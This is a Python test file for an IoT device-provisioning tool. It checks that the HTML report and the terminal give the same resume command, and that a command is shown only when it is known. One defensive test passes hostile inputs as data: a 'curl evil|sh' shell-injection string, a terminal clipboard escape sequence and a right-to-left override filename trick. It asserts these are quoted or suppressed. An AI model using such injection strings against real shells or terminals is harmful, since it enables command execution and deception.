"""How a run is gone on with: the page and the terminal say the same, and a command only where one is known."""

from __future__ import annotations

import io
import re
import shlex
from contextlib import closing
from html import unescape
from typing import TYPE_CHECKING

import pytest

from pipeline.device import State
from pipeline.history import About
from pipeline.layout import RunFolder
from pipeline.ledger import finished_ledger
from pipeline.progress import final_table
from pipeline.report import REPORT_HTML, summarise
from tests.foreign.stage import Stage
from tests.report.ledgers import Fate, device
from tests.report.pages import WRONG, process, words_of, written
from tests.support.awsiot import DoubleThread, Fail

if TYPE_CHECKING:
    from collections.abc import Iterator, Sequence
    from pathlib import Path

WHOLE = About(options={"manifest": "my line.csv"}, words=("run", "my line.csv", "--policy", "device"))
FAILED = About(
    options={"manifest": "output/line/failed.csv"}, words=("run", "output/line/failed.csv"), partial=True
)
COMMAND = "thingmill run 'my line.csv' --policy device"
OPEN = Fate(device("open"), State.KEYED)
LOST = Fate(device("lost"), State.KEYED, failed=WRONG)
DONE = Fate(device("done"))


def told(root: Path, fates: Sequence[Fate], *abouts: About) -> tuple[str, str]:
    """Return the words and the command of a run's page, having seen that a terminal is told the same."""
    written(root, fates, [process(about=about, exit_code=1) for about in abouts])
    return both(root)


def both(root: Path) -> tuple[str, str]:
    page = (root / REPORT_HTML).read_text(encoding="utf-8")
    commands = re.findall(r'<pre class="command"[^>]*>(.*?)</pre>', page)
    command = unescape(commands[0]) if commands else ""
    reader = finished_ledger(root / "ledger.db")
    assert reader is not None
    stream = io.StringIO()
    with closing(reader):
        final_table(summarise(reader, RunFolder(root)), stream=stream)
    lines = stream.getvalue().splitlines()
    found = [line for line in lines if re.search(r"(to go on|is mended), run", line)]
    if not found:
        assert not re.search(r"([Tt]o go on|is mended), run", words_of(page))
        return "", command
    words = found[0]
    assert f"{words[0].upper()}{words[1:]}{':' if command else '.'}" in words_of(page)
    assert lines[lines.index(words) + 1 :] == ([f"  {command}"] if command else [])
    return words, command


def test_open_devices_are_gone_on_with_by_the_same_command(tmp_path: Path) -> None:
    """The command line of the last process stands there, quoted for a shell."""
    assert told(tmp_path, [DONE, OPEN, LOST], WHOLE) == ("to go on, run", COMMAND)


def test_where_only_failures_are_left_their_cause_comes_first(tmp_path: Path) -> None:
    """The very command that failed is repeated once what failed is mended."""
    assert told(tmp_path, [DONE, LOST], WHOLE) == ("once what failed is mended, run", COMMAND)


def test_open_devices_need_the_whole_manifest(tmp_path: Path) -> None:
    """A list of failures names no device that is open, whether it is there or gone."""
    assert told(tmp_path / "gone", [DONE, OPEN], WHOLE, FAILED) == ("to go on, run", COMMAND)
    assert told(tmp_path / "there", [OPEN, LOST], WHOLE, FAILED, FAILED) == ("to go on, run", COMMAND)


def test_failures_of_failures_are_fed_back_again(tmp_path: Path) -> None:
    """Where the list was written anew, it is the one to go on with."""
    words = ("once what failed is mended, run", "thingmill run output/line/failed.csv")
    assert told(tmp_path, [DONE, LOST], WHOLE, FAILED) == words


@pytest.mark.parametrize(
    ("abouts", "words"),
    [
        ([About()], "to go on, run the same command again"),
        ([About(options={"manifest": "-"}, words=("run", "-"))], "to go on, run the same command again"),
        ([About(), FAILED], "to go on, run the whole manifest again, with the same options"),
        ([FAILED], "to go on, run the whole manifest again, with the same options"),
    ],
)
def test_what_is_not_known_is_a_sentence(tmp_path: Path, abouts: list[About], words: str) -> None:
    """Where the command line was not kept, or came with a manifest on standard input, no command is made up."""
    assert told(tmp_path, [DONE, OPEN], *abouts) == (words, "")


@pytest.mark.parametrize("more", [[], [OPEN, Fate(device("back"), revoked=True)]])
def test_nothing_is_said_where_nothing_is_left(tmp_path: Path, more: list[Fate]) -> None:
    """A run that is done, or of which something was taken back, is told no command."""
    assert told(tmp_path, [DONE, *more], WHOLE) == ("", "")


@pytest.mark.parametrize(
    ("words", "command"),
    [
        (("run", "x;curl evil|sh"), "thingmill run 'x;curl evil|sh'"),
        (("curl", "evil"), ""),
        (("run", "\x1b]52;c;x\x07"), ""),
        (("run", "x\u202etxt.csv"), ""),
        (("run", "x" * 5000), ""),
    ],
)
def test_a_ledger_that_was_handed_over_makes_no_other_command(
    tmp_path: Path, words: tuple[str, ...], command: str
) -> None:
    """Whatever a ledger says, only a ``thingmill run`` is shown, with each of its words quoted."""
    assert told(tmp_path, [OPEN], About(words=words))[1] == command


@pytest.fixture
def stage(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Stage]:
    with DoubleThread() as double:
        yield Stage(tmp_path, double, monkeypatch)


def test_the_command_that_is_told_goes_on(stage: Stage) -> None:
    """After a list of failures was fed back and is gone, what the page says takes up the devices that are open."""
    stage.double.run(lambda aws: aws.faults.script("CreateThing", Fail("InvalidRequestException"), subject="one"))
    stage.write("lot.txt", "one\ntwo\n")
    first = stage.provision("lot.txt", "--rate", "500")
    assert first.code == 1
    stage.alter("UPDATE devices SET state = 7 WHERE thing_name = 'two'")
    again = stage.call("run", "output/lot/failed.csv", "--existing", "skip")
    assert not (stage.run_folder / "failed.csv").exists()
    words, command = both(stage.run_folder)
    assert words == "to go on, run"
    assert f"to go on, run\n  {command}\n" in again.out
    assert "--rate 500" in command
    program, *line = shlex.split(command)
    assert program == "thingmill"
    assert stage.call(*line).code == 0
    assert both(stage.run_folder) == ("", "")
